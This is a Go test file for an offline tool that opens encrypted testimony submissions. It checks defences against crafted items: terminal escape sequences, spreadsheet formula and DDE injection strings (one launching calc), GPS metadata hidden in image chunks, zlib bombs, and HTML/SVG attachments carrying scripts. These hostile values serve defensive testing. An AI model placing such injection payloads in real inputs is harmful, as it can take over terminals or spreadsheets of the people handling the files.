package main

import (
	"archive/tar"
	"bytes"
	"compress/zlib"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"image"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"filippo.io/age"

	"testimony/crypto"
	"testimony/internal/testutil"
)

// The tests of issue 17: hostile items, crafted outside the server (or
// written by an older one), opened with the offline tool.

// hostileEnv is an identity, and the output folder items are opened into.
type hostileEnv struct {
	t      *testing.T
	dir    string
	out    string
	ids    []age.Identity
	rs     *crypto.Recipients
	stderr bytes.Buffer
}

func newHostileEnv(t *testing.T) *hostileEnv {
	dir := t.TempDir()
	keyFile, rs := newIdentity(t, dir, "key.txt")
	ids, err := readIdentities([]string{keyFile})
	if err != nil {
		t.Fatal(err)
	}
	e := &hostileEnv{t: t, dir: dir, out: filepath.Join(dir, "cases"), ids: ids, rs: rs}
	old := stderr
	stderr = &e.stderr
	t.Cleanup(func() { stderr = old })
	return e
}

// bundle writes a bundle of the items with the store's real code.
func (e *hostileEnv) bundle(name string, specs ...*itemSpec) string {
	path := filepath.Join(e.dir, name)
	if err := writeBundle(path, specs, func(*itemSpec) (*crypto.Recipients, error) { return e.rs, nil }); err != nil {
		e.t.Fatal(err)
	}
	return path
}

// open opens the files into the output folder.
func (e *hostileEnv) open(files ...string) *openResult {
	res, err := openInto(e.ids, e.out, files)
	if err != nil {
		e.t.Fatalf("open: %v\n%s", err, e.stderr.String())
	}
	return res
}

func (e *hostileEnv) read(name string) []byte {
	b, err := os.ReadFile(filepath.Join(e.out, name))
	if err != nil {
		e.t.Fatal(err)
	}
	return b
}

// itemDir is the one item folder of a source.
func (e *hostileEnv) itemDir(source string) string {
	m, _ := filepath.Glob(filepath.Join(e.out, source, "*"))
	if len(m) != 1 {
		e.t.Fatalf("%s holds %v, want one item", source, m)
	}
	return m[0]
}

// terminalActive finds what a terminal would act on: C0 controls but
// newline and tab, DEL, C1 controls and the bidi formatting characters.
var terminalActive = regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")

func checkInert(t *testing.T, what string, b []byte) {
	t.Helper()
	if !utf8.Valid(b) {
		t.Errorf("%s holds bytes that are not UTF-8", what)
	}
	if loc := terminalActive.FindIndex(b); loc != nil {
		t.Errorf("%s holds %q at byte %d", what, b[loc[0]:loc[1]], loc[0])
	}
}

// hostile is text that, printed raw to a terminal, clears the screen,
// sets the window title and turns text round (issue 17, point 4).
const hostile = "Camp\x1b[2J\x1b]0;owned\x07 7\u009b31m \u202egpj.exe\x7f"

// Point 4: what open and report write for a terminal (standard error and
// output, testimony.txt) shows a crafted item's controls visibly, never
// raw; so do the spreadsheet's cells.
func TestHostileTextIsEscaped(t *testing.T) {
	e := newHostileEnv(t)
	spec := &itemSpec{Day: "2026-02-01", Source: "s-aaaa", Lang: "ru\x1b]0;lang\x07",
		Answers: map[string]crypto.Answer{
			"facility":          crypto.TextAnswer(hostile),
			"account":           crypto.TextAnswer("line one\x1b[1A\rline two\n" + hostile),
			"conditions":        crypto.ListAnswer("overcrowding\x1b[5m"),
			"key\x1b[2J":        crypto.TextAnswer("x"),
			"detention_from":    crypto.TextAnswer("2025-01-01"),
			"detention_to":      crypto.TextAnswer("2025-02-01"),
			"deport_date":       crypto.TextAnswer("2025-02-02"),
			"depart_airport":    crypto.TextAnswer("Alexandria\x1b[8m"),
			"arrival_airport":   crypto.TextAnswer("Moscow"),
			"flight_treatment":  crypto.ListAnswer("shackled"),
			"\u202eetad_tropeD": crypto.TextAnswer("y"),
		},
		Attachments: []attachmentSpec{{Name: "\x1b[31mred.txt", Type: "text/plain\x1b]0;t\x07", Text: "hello"}}}
	other := *spec
	other.Source = "s-bbbb"
	b := e.bundle("b.tar", spec, &other)
	// A file name with controls reaches an error message.
	e.open(b, filepath.Join(e.dir, "missing\x1b]0;owned\x07.age"))
	checkInert(t, "open's standard error", e.stderr.Bytes())
	if !strings.Contains(e.stderr.String(), `missing\x1b]0;owned\x07.age`) {
		t.Errorf("the file name is not shown escaped:\n%s", e.stderr.String())
	}
	txt, err := os.ReadFile(filepath.Join(e.itemDir("s-aaaa"), "testimony.txt"))
	if err != nil {
		t.Fatal(err)
	}
	checkInert(t, "testimony.txt", txt)
	for _, want := range []string{`Camp\x1b[2J\x1b]0;owned\x07 7\xc2\x9b31m \u202egpj.exe\x7f`, `line one\x1b[1A\x0dline two`, `Language:  ru\x1b]0;lang\x07`} {
		if !strings.Contains(string(txt), want) {
			t.Errorf("testimony.txt does not show %s:\n%s", want, txt)
		}
	}
	checkInert(t, "testimonies.csv", e.read("testimonies.csv"))

	var out bytes.Buffer
	oldOut := stdout
	stdout = &out
	defer func() { stdout = oldOut }()
	if err := runReport([]string{e.out}); err != nil {
		t.Fatal(err)
	}
	checkInert(t, "report's summary", out.Bytes())
	if !strings.Contains(out.String(), `Camp\x1b[2J`) || !strings.Contains(out.String(), "Shared flights (same deportation date and route, 2+ sources): 1") {
		t.Errorf("report's summary:\n%s", out.String())
	}
}

func TestSafeText(t *testing.T) {
	for in, want := range map[string]string{
		"plain, кириллица\ttab":  "plain, кириллица\ttab",
		"a\x1b[2Jb":              `a\x1b[2Jb`,
		"two\nlines\r":           `two\nlines\x0d`,
		"\u202eabc\u2066\u2069":  `\u202eabc\u2066\u2069`,
		"c1 \u009b and \xff\xfe": `c1 \xc2\x9b and \xff\xfe`,
		"del\x7f":                `del\x7f`,
	} {
		if got := safeText(in); got != want {
			t.Errorf("safeText(%q) = %q, want %q", in, got, want)
		}
	}
	if got := safeLines("a\nb\x1b"); got != `a`+"\n"+`b\x1b` {
		t.Errorf("safeLines kept %q", got)
	}
}

// formulaStart finds a cell a spreadsheet would take for a formula.
var formulaStart = regexp.MustCompile(`^\s*[=+\-@\t\r|%＝＋－＠]`)

// Point 5: no cell of testimonies.csv, the header's and the language's
// and form's included, starts like a formula, whether a spreadsheet
// splits on "," or, as many do in Europe, on ";" or a tab.
func TestSpreadsheetCellsDefused(t *testing.T) {
	e := newHostileEnv(t)
	spec := &itemSpec{Day: "2026-02-01", Source: "s-aaaa", Lang: "=1+1",
		Answers: map[string]crypto.Answer{
			`=HYPERLINK("http://example.invalid/?"&A2,"click")`: crypto.TextAnswer("x"),
			"facility": crypto.TextAnswer("LED;=1+1"),
			"account":  crypto.TextAnswer("tab\t=2+2 and \"quote\";@SUM(1)"),
			"charges":  crypto.TextAnswer(" -3+4"),
			"contact":  crypto.TextAnswer("|calc"),
		}}
	b := filepath.Join(e.dir, "b.tar")
	if err := writeBundleForm(b, []*itemSpec{spec}, crypto.FormRef{ID: "+cmd|' /C calc'!A0", Version: 1}, e.rs); err != nil {
		t.Fatal(err)
	}
	e.open(b)
	raw := bytes.TrimPrefix(e.read("testimonies.csv"), []byte("\xEF\xBB\xBF"))
	rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("%d rows", len(rows))
	}
	for _, row := range rows {
		for _, c := range row {
			if formulaStart.MatchString(c) {
				t.Errorf("cell %q starts like a formula", c)
			}
		}
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	// The piece after the ";" is defused too, the rest is as written.
	if got := rows[1][col["facility"]]; got != "LED;'=1+1" {
		t.Errorf("facility = %q, want %q", got, "LED;'=1+1")
	}
	if got := rows[1][col["lang"]]; got != "'=1+1" {
		t.Errorf("lang = %q", got)
	}
	// Split on ",", ";" or a tab wherever one is, quoted or not, as
	// LibreOffice set to ";" does: no piece starts like a formula, even
	// after the quotes that begin a quoted cell.
	for _, sep := range []string{",", ";", "\t"} {
		for _, line := range strings.Split(string(raw), "\n") {
			for _, c := range strings.Split(line, sep) {
				if formulaStart.MatchString(strings.TrimLeft(c, `" `)) {
					t.Errorf("split on %q, cell %q starts like a formula", sep, c)
				}
			}
		}
	}
	libreOfficeFormulas(t, filepath.Join(e.out, "testimonies.csv"))
}

// libreOfficeFormulas converts a CSV with LibreOffice, the spreadsheet of
// many groups, split on ",", ";" and tab, and fails if any cell became a
// formula. Skipped without soffice.
func libreOfficeFormulas(t *testing.T, csvFile string) {
	t.Helper()
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Log("soffice not installed: the CSV was not checked with LibreOffice")
		return
	}
	dir := t.TempDir()
	for _, sep := range []int{44, 59, 9} {
		out := filepath.Join(dir, fmt.Sprint(sep))
		// 59,34,76,1: separator, text delimiter ", UTF-8, from line 1;
		// LibreOffice evaluates formulas in a CSV by default.
		cmd := exec.Command(soffice, "--headless", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
			fmt.Sprintf("--infilter=CSV:%d,34,76,1", sep), "--convert-to", "fods", "--outdir", out, csvFile)
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("soffice: %v\n%s", err, b)
		}
		fods, err := os.ReadFile(filepath.Join(out, "testimonies.fods"))
		if err != nil {
			t.Fatal(err)
		}
		if sep == 44 && !bytes.Contains(fods, []byte("LED;&apos;=1+1")) {
			t.Errorf("LibreOffice, separator %d: the facility is not in the sheet", sep)
		}
		if m := regexp.MustCompile(`table:formula="[^"]*"`).FindAll(fods, -1); m != nil {
			t.Errorf("LibreOffice, separator %d, evaluated formulas: %s", sep, bytes.Join(m, []byte(", ")))
		}
	}
}

// pngWith returns a PNG with a chunk of type typ holding data after IHDR.
func pngWith(t *testing.T, typ string, data []byte) []byte {
	src := gpsPNGWithout(t)
	ihdrEnd := 8 + 12 + 13
	out := append([]byte{}, src[:ihdrEnd]...)
	out = append(out, pngChunk(typ, data)...)
	return append(out, src[ihdrEnd:]...)
}

func gpsPNGWithout(t *testing.T) []byte {
	var out bytes.Buffer
	if _, err := stripImage(&out, gpsPNG(t)); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// jpegWith returns a JPEG with a segment after SOI.
func jpegWith(marker byte, body []byte) func(t *testing.T) []byte {
	return func(t *testing.T) []byte {
		src := gpsJPEGWithout(t)
		s := []byte{0xFF, marker, byte((len(body) + 2) >> 8), byte(len(body) + 2)}
		out := append([]byte{}, src[:2]...)
		out = append(out, s...)
		out = append(out, body...)
		return append(out, src[2:]...)
	}
}

func zlibbed(b []byte) []byte {
	var z bytes.Buffer
	w := zlibWriter(&z)
	w.Write(b)
	w.Close()
	return z.Bytes()
}

// Point 6: a working copy keeps only what is known to be safe. EXIF with
// GPS in a chunk or segment the old strippers did not know stayed in the
// .clean copy while the page said "GPS present: no".
func TestWorkingCopyAllowList(t *testing.T) {
	exif := append([]byte("Exif\x00\x00"), gpsTIFF()...)
	jfif := []byte("JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
	for _, tc := range []struct {
		name string
		src  func(t *testing.T) []byte
	}{
		{"png exIf", func(t *testing.T) []byte { return pngWith(t, "exIf", gpsTIFF()) }},
		{"png zxIf", func(t *testing.T) []byte { return pngWith(t, "zxIf", zlibbed(exif)) }},
		{"png caBX", func(t *testing.T) []byte { return pngWith(t, "caBX", append([]byte("jumb c2pa "), exif...)) }},
		{"png private", func(t *testing.T) []byte { return pngWith(t, "prVt", gpsTIFF()) }},
		{"png zTXt", func(t *testing.T) []byte {
			return pngWith(t, "zTXt", append([]byte("Raw profile type exif\x00\x00"), zlibbed(exif)...))
		}},
		{"png iCCP", func(t *testing.T) []byte { return pngWith(t, "iCCP", append([]byte("icc\x00\x00"), zlibbed(exif)...)) }},
		{"jpeg APP0 EXIF", jpegWith(0xE0, exif)},
		{"jpeg APP0 JFIF with EXIF after", jpegWith(0xE0, append(append([]byte{}, jfif...), exif...))},
		{"jpeg APP3", jpegWith(0xE3, exif)},
		{"jpeg APP14 not Adobe", jpegWith(0xEE, exif)},
		{"jpeg JPG0", jpegWith(0xF0, exif)},
	} {
		src := tc.src(t)
		var out bytes.Buffer
		res, err := stripImage(&out, src)
		if err != nil {
			t.Errorf("%s: %v", tc.name, err)
			continue
		}
		if !res.GPS {
			t.Errorf("%s: GPS not found", tc.name)
		}
		clean := out.Bytes()
		if bytes.Contains(clean, gpsTIFF()[8:]) || bytes.Contains(clean, []byte("Exif")) || bytes.Contains(clean, zlibbed(exif)) {
			t.Errorf("%s: the working copy still holds the EXIF data (stripped %v)", tc.name, res.Stripped)
		}
		if _, err := decodeImage(clean); err != nil {
			t.Errorf("%s: the working copy does not decode: %v", tc.name, err)
		}
	}
	// What a decoder needs stays: a JFIF header (without its thumbnail),
	// Adobe's colour transform.
	adobe := []byte("Adobe\x00\x64\x00\x00\x00\x00\x01")
	thumb := []byte("THUMBPIXELS!") // 2×2 RGB
	for _, tc := range []struct {
		name string
		src  []byte
		want []byte
	}{
		{"JFIF", jpegWith(0xE0, jfif)(t), append([]byte{0xFF, 0xE0, 0, 16}, jfif...)},
		{"JFIF thumbnail", jpegWith(0xE0, append(append(append([]byte{}, jfif[:12]...), 2, 2), thumb...))(t), append([]byte{0xFF, 0xE0, 0, 16}, jfif...)},
		{"Adobe", jpegWith(0xEE, adobe)(t), append([]byte{0xFF, 0xEE, 0, 14}, adobe...)},
	} {
		var out bytes.Buffer
		if _, err := stripImage(&out, tc.src); err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		if !bytes.Contains(out.Bytes(), tc.want) {
			t.Errorf("%s: the working copy lost % x", tc.name, tc.want)
		}
		if bytes.Contains(out.Bytes(), thumb) {
			t.Errorf("%s: the thumbnail stayed", tc.name)
		}
	}
}

// Point 6, on the page: a file open does not clean is said to be
// "metadata not checked", never passed over in silence.
func TestMetadataNotChecked(t *testing.T) {
	e := newHostileEnv(t)
	spec := &itemSpec{Day: "2026-02-01", Source: "s-aaaa", Attachments: []attachmentSpec{
		{Name: "IMG_0001.HEIC", Type: "image/heic", Text: "\x00\x00\x00\x18ftypheic"},
		{Name: "clip.mp4", Type: "video/mp4", Text: "\x00\x00\x00\x18ftypmp42"},
		{Name: "statement.docx", Type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", Text: "PK\x03\x04"},
		{Name: "photo.png", Type: "image/png", File: writeTemp(t, gpsPNG(t))},
		// A JPEG open cannot read has no working copy: not checked either,
		// and its GPS is not "no".
		{Name: "broken.jpg", Type: "image/jpeg", Text: "\xFF\xD8\xFF\xE1\x00\x08Exif"},
	}}
	e.open(e.bundle("b.tar", spec))
	dir := e.itemDir("s-aaaa")
	page, err := os.ReadFile(filepath.Join(dir, "testimony.html"))
	if err != nil {
		t.Fatal(err)
	}
	rows := regexp.MustCompile(`(?s)<tr><td>.*?</tr>`).FindAllString(string(page), -1)
	if len(rows) != 5 {
		t.Fatalf("%d attachment rows:\n%s", len(rows), page)
	}
	for i, r := range rows[:3] {
		if !strings.Contains(r, "metadata not checked") {
			t.Errorf("attachment %d: the page does not say its metadata was not checked:\n%s", i+1, r)
		}
	}
	if strings.Contains(rows[3], "metadata not checked") || !strings.Contains(rows[3], `GPS present: <span class="gps">yes</span>`) {
		t.Errorf("the PNG's row:\n%s", rows[3])
	}
	if !strings.Contains(rows[4], "metadata not checked") || !strings.Contains(rows[4], "GPS present: not checked") {
		t.Errorf("the broken JPEG's row:\n%s", rows[4])
	}
	txt, _ := os.ReadFile(filepath.Join(dir, "testimony.txt"))
	if n := strings.Count(string(txt), "metadata not checked"); n != 4 {
		t.Errorf("testimony.txt says metadata not checked %d times, want 4:\n%s", n, txt)
	}
	if !strings.Contains(string(txt), "GPS present: not checked") {
		t.Errorf("testimony.txt says the broken JPEG's GPS was checked:\n%s", txt)
	}
}

func writeTemp(t *testing.T, b []byte) string {
	f := filepath.Join(t.TempDir(), "f")
	if err := os.WriteFile(f, b, 0o600); err != nil {
		t.Fatal(err)
	}
	return f
}

// Point 7: a manifest of more answer keys than any questionnaire gives is
// refused with a message naming the item; the other items of the bundle
// open. (Before, csvColumns checked each key against a growing list: 290,000
// keys took 146 s, and as long again at every later open of the folder.)
func TestManyAnswerKeysRefused(t *testing.T) {
	e := newHostileEnv(t)
	many := map[string]crypto.Answer{}
	for i := range crypto.MaxAnswers + 1 {
		many[fmt.Sprintf("k%06d", i)] = crypto.TextAnswer("v")
	}
	crafted := filepath.Join(e.dir, "crafted.age")
	writeRawItem(t, crafted, e.rs, &crypto.Manifest{Format: crypto.Format, Kind: crypto.KindSubmission,
		Day: "2026-02-01", Answers: many, Attachments: []crypto.Attachment{}})
	good := e.bundle("good.tar", &itemSpec{Day: "2026-02-01", Source: "s-good", Answers: map[string]crypto.Answer{"facility": crypto.TextAnswer("Camp 7")}})
	res, err := openInto(e.ids, e.out, []string{crafted, good})
	if err != nil {
		t.Fatal(err)
	}
	if res.failed != 1 || res.opened != 1 {
		t.Errorf("opened %d, failed %d; want the good item opened and the crafted one refused\n%s", res.opened, res.failed, e.stderr.String())
	}
	if !strings.Contains(e.stderr.String(), "crafted.age: refused: bad manifest: 1001 answers, at most 1000") {
		t.Errorf("no clear refusal:\n%s", e.stderr.String())
	}
	// A folder an older open let such an item into: it is left out of the
	// spreadsheet, with a warning.
	dir := filepath.Join(e.out, unknownSource, "2026-02-01-submission-00000000")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	mj, _ := json.Marshal(&crypto.Manifest{Format: crypto.Format, Kind: crypto.KindSubmission, Day: "2026-02-01", Answers: many})
	os.WriteFile(filepath.Join(dir, crypto.ManifestName), mj, 0o600)
	os.WriteFile(filepath.Join(dir, "item.json"), []byte(`{"id":"00000000","source":"unknown-source"}`), 0o600)
	e.stderr.Reset()
	e.open()
	if !strings.Contains(e.stderr.String(), "1001 answers, at most 1000); left out") {
		t.Errorf("the old item is not left out:\n%s", e.stderr.String())
	}
	header, _, _ := strings.Cut(string(e.read("testimonies.csv")), "\n")
	if strings.Contains(header, "k000001") {
		t.Error("the old item's keys are columns of the spreadsheet")
	}
}

// writeRawItem writes an item whose manifest NewEnvelope would refuse, as
// a crafted item would be made: the manifest entry of a tar, encrypted.
func writeRawItem(t *testing.T, name string, rs *crypto.Recipients, m *crypto.Manifest) {
	mj, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	ars, err := age.ParseRecipients(strings.NewReader(strings.Join(rs.Keys(), "\n")))
	if err != nil {
		t.Fatal(err)
	}
	w, err := age.Encrypt(f, ars...)
	if err != nil {
		t.Fatal(err)
	}
	tw := tar.NewWriter(w)
	tw.WriteHeader(&tar.Header{Name: crypto.ManifestName, Mode: 0o600, Size: int64(len(mj)), Format: tar.FormatPAX})
	tw.Write(mj)
	tw.Close()
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
}

// Point 8: a source named like a file open writes at the folder's root
// does not take its place; the folder opens again and again.
func TestSourceNamedLikeAGeneratedFile(t *testing.T) {
	e := newHostileEnv(t)
	var specs []*itemSpec
	for _, s := range []string{"index.html", "testimonies.csv", "REPORT.HTML", "index.json", "shared.log", ".partial"} {
		specs = append(specs, &itemSpec{Day: "2026-02-01", Source: s, Answers: map[string]crypto.Answer{"facility": crypto.TextAnswer(s)}})
	}
	b := e.bundle("b.tar", specs...)
	if res := e.open(b); res.opened != len(specs) || res.failed != 0 {
		t.Fatalf("opened %d, failed %d\n%s", res.opened, res.failed, e.stderr.String())
	}
	for _, name := range []string{"index.html", "testimonies.csv"} {
		st, err := os.Stat(filepath.Join(e.out, name))
		if err != nil || !st.Mode().IsRegular() {
			t.Errorf("%s is not a file: %v", name, err)
		}
	}
	if _, err := os.Stat(filepath.Join(e.out, "source-index.html")); err != nil {
		t.Errorf("the source index.html is not in source-index.html: %v", err)
	}
	// A second open, and report, still work.
	if res := e.open(b); res.skipped != len(specs) || res.failed != 0 {
		t.Fatalf("second open: skipped %d, failed %d\n%s", res.skipped, res.failed, e.stderr.String())
	}
	stdout = io.Discard
	defer func() { stdout = os.Stdout }()
	if err := runReport([]string{e.out}); err != nil {
		t.Fatalf("report: %v", err)
	}
	if st, err := os.Stat(filepath.Join(e.out, "report.html")); err != nil || !st.Mode().IsRegular() {
		t.Errorf("report.html is not a file: %v", err)
	}
}

// Point 9: an attachment a browser would run as a page (.html, .svg, or
// markup under a name a browser does not know) is not linked from the
// pages; a text copy is, and the page says why.
func TestScriptableAttachmentsNotLinked(t *testing.T) {
	e := newHostileEnv(t)
	script := `<html><body><script>document.title="ran"</script></body></html>`
	svg := `<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="ran"</script></svg>`
	spec := &itemSpec{Day: "2026-02-01", Source: "s-aaaa", Attachments: []attachmentSpec{
		{Name: "page.html", Type: "text/html", Text: script},
		{Name: "logo.SVG", Type: "image/svg+xml", Text: svg},
		{Name: "noext", Type: "application/octet-stream", Text: "\n  " + script},
		{Name: "notes.txt", Type: "text/plain", Text: "plain notes"},
	}}
	e.open(e.bundle("b.tar", spec))
	dir := e.itemDir("s-aaaa")
	active := []string{"01-page.html", "02-logo.SVG", "03-noext"}
	for _, page := range []string{filepath.Join(dir, "testimony.html"), filepath.Join(e.out, "index.html")} {
		b, err := os.ReadFile(page)
		if err != nil {
			t.Fatal(err)
		}
		hrefs := map[string]bool{}
		for _, m := range regexp.MustCompile(`href="([^"]*)"`).FindAllStringSubmatch(string(b), -1) {
			hrefs[filepath.Base(m[1])] = true
		}
		for _, f := range active {
			if hrefs[f] {
				t.Errorf("%s links %s", page, f)
			}
			if !hrefs[f+".txt"] {
				t.Errorf("%s does not link the text copy %s.txt", page, f)
			}
		}
		if !hrefs["04-notes.txt"] {
			t.Errorf("%s does not link a plain text attachment", page)
		}
		if !strings.Contains(string(b), "could run") {
			t.Errorf("%s does not say why", page)
		}
	}
	for i, f := range active {
		got, err := os.ReadFile(filepath.Join(dir, "attachments", f+".txt"))
		if err != nil || string(got) != spec.Attachments[i].Text {
			t.Errorf("text copy of %s: %q, %v", f, got, err)
		}
	}
	checkNoScriptRuns(t, filepath.Join(dir, "testimony.html"), active)
}

// checkNoScriptRuns loads, in headless Chromium with scripts on, every
// attachment the page links, and fails if one ran its script; it loads an
// unlinked original too, to show that this setup would run one. Skipped
// without chromium.
func checkNoScriptRuns(t *testing.T, page string, unlinked []string) {
	t.Helper()
	if _, err := exec.LookPath("chromium"); err != nil {
		t.Log("chromium not installed: the links were not followed in a browser")
		return
	}
	dump := func(file string) string {
		out, err := testutil.ChromiumCommand(t, "--dump-dom", "file://"+file).Output()
		if err != nil {
			t.Fatalf("chromium %s: %v", file, err)
		}
		return string(out)
	}
	ran := regexp.MustCompile(`<title>ran</title>`)
	if !ran.MatchString(dump(filepath.Join(filepath.Dir(page), "attachments", unlinked[0]))) {
		t.Fatalf("the unlinked %s did not run its script in Chromium: the check below would prove nothing", unlinked[0])
	}
	b, _ := os.ReadFile(page)
	n := 0
	for _, m := range regexp.MustCompile(`href="(attachments/[^"]*)"`).FindAllStringSubmatch(string(b), -1) {
		n++
		if dom := dump(filepath.Join(filepath.Dir(page), m[1])); ran.MatchString(dom) {
			t.Errorf("following the link %s ran its script", m[1])
		}
	}
	if n < len(unlinked) {
		t.Errorf("%d attachment links followed, want at least %d", n, len(unlinked))
	}
}

func zlibWriter(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }

func decodeImage(b []byte) (image.Image, error) {
	img, _, err := image.Decode(bytes.NewReader(b))
	return img, err
}

// Point 4: a flag error echoes what was typed, a file name a shell glob
// made perhaps (a file named "-\x1b]0;owned\x07" in the folder); it too is
// shown escaped.
func TestFlagErrorIsEscaped(t *testing.T) {
	e := newHostileEnv(t)
	if code := run([]string{"open", "-\x1b]0;owned\x07"}); code != 2 {
		t.Errorf("exit code %d, want 2", code)
	}
	checkInert(t, "the flag error", e.stderr.Bytes())
	if !strings.Contains(e.stderr.String(), `-\x1b]0;owned\x07`) {
		t.Errorf("the flag is not shown escaped:\n%s", e.stderr.String())
	}
}

// Point 6: what the GPS search inflates is bounded per image (a file of
// many small zlib bombs cannot make open slow), and what it had no budget
// left to search counts as holding GPS data, never as clean.
func TestGPSSearchBounded(t *testing.T) {
	bomb := zlibbed(make([]byte, 4<<20)) // 4 MiB of zeros, a few KiB
	src := gpsPNGWithout(t)
	ihdrEnd := 8 + 12 + 13
	img := append([]byte{}, src[:ihdrEnd]...)
	n := 0
	for ; n*(4<<20) <= gpsInflateMax; n++ {
		img = append(img, pngChunk("prVt", bomb)...)
	}
	img = append(img, src[ihdrEnd:]...)
	var out bytes.Buffer
	res, err := stripImage(&out, img)
	if err != nil {
		t.Fatal(err)
	}
	if !res.GPS {
		t.Errorf("%d chunks of 4 MiB each, past the bound: GPS not reported", n)
	}
	if bytes.Contains(out.Bytes(), []byte("prVt")) {
		t.Error("the working copy kept the private chunks")
	}
	// Under the bound, zeros are not GPS.
	res, err = stripImage(&out, pngWith(t, "prVt", bomb))
	if err != nil || res.GPS {
		t.Errorf("one chunk of zeros: GPS %v, %v", res.GPS, err)
	}
}
